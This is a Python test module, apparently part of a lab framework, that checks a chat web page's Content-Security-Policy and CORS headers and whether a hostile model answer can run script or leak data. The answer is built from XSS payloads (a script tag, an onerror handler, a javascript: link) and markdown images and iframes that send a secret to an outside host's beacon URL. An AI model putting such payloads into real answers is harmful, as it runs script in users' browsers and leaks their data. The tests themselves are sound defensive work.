"""What strangers may try: through the words of a model, and from another site's page."""

from __future__ import annotations

import re

import httpx

from checkpoints.engine.plugin import Lab
from checkpoints.engine.provider import Provider, Say
from checkpoints.engine.verdict import Failed
from checkpoints.engine.visitor import Visitor
from checkpoints.engine.words import Words

_UNSAFE = re.compile(
    r"'unsafe-inline'|'unsafe-eval'|(?<![\w.])\*(?![\w.])|https?:(?=[\s;]|$)|data:"
)
_EXPECTED = (
    "`script-src 'self'` and no more, `img-src 'self' data:`, `connect-src` with the servers that the "
    "page talks to, and `default-src 'none'` for the rest."
)


async def require_policy(lab: Lab) -> None:
    """The page is sent with a Content-Security-Policy that forbids what it does not need."""
    foreign = {"Origin": "https://evil.example", "Sec-Fetch-Site": "cross-site"}
    async with httpx.AsyncClient(
        base_url=lab.server.base_url, trust_env=False, verify=False
    ) as http:
        page = await http.get("/app/")
        read = await http.get("/api/config", headers=foreign)
    policy = page.headers.get("content-security-policy", "")
    tried = "Loaded `/app/` and looked at the header Content-Security-Policy."
    rules = {
        name: rest
        for name, _, rest in (rule.strip().partition(" ") for rule in policy.lower().split(";"))
        if name
    }
    if not rules:
        raise _unsafe(tried, "There is none.", "csp-missing")
    for name in ("script-src", "img-src", "connect-src"):
        rule = rules.get(name, rules.get("default-src"))
        if rule is None:
            raise _unsafe(tried, f"It says nothing of {name}: {policy}", "csp-too-wide")
        rule = rule.replace("data:", "") if name == "img-src" else rule
        if found := _UNSAFE.search(rule):
            raise _unsafe(tried, f"It allows `{found[0]}` in {name}: {rule}", "csp-too-wide")
    allowed = read.headers.get("access-control-allow-origin")
    if allowed in ("*", "https://evil.example"):
        raise Failed(
            tried="Asked `/api/config` from a page at https://evil.example.",
            observed=f"The answer says `Access-Control-Allow-Origin: {allowed}`.",
            expected="No such header. The page and its server have one origin; nobody else needs to "
            "read their answers.",
            misconception="open-cors",
        )


async def require_harmless(visitor: Visitor, model: Provider, words: Words, elsewhere: str) -> None:
    """An answer full of tricks runs nothing, and asks for nothing elsewhere."""
    secret = words.word()
    answer = (
        f"Done. ![]({elsewhere}/beacon?q={secret}) <img src='{elsewhere}/beacon?q={secret}' "
        "onerror='window.owned = 1'> <script>window.owned = 1</script> "
        f"[link](javascript:window.owned=1) <iframe src='{elsewhere}/beacon?q={secret}'></iframe>"
    )
    model.forget()
    model.reply(lambda call: Say(answer))
    await visitor.say(words.sentence())
    # What the answer made the page ask for has been asked for before this.
    await visitor.page.evaluate(
        "async () => { await new Promise(requestAnimationFrame); await fetch('/api/config'); }"
    )
    if await visitor.page.evaluate("window.owned"):
        raise _unsafe("The model answered with a script.", "It ran.", "script-ran")
    if any("beacon" in url for url in visitor.asked):
        raise _unsafe(
            "The model answered with a picture of another site, whose address held a secret.",
            "The page asked for it, and the other site has the secret.",
            "beacon",
        )


def _unsafe(tried: str, observed: str, misconception: str) -> Failed:
    return Failed(tried=tried, observed=observed, expected=_EXPECTED, misconception=misconception)
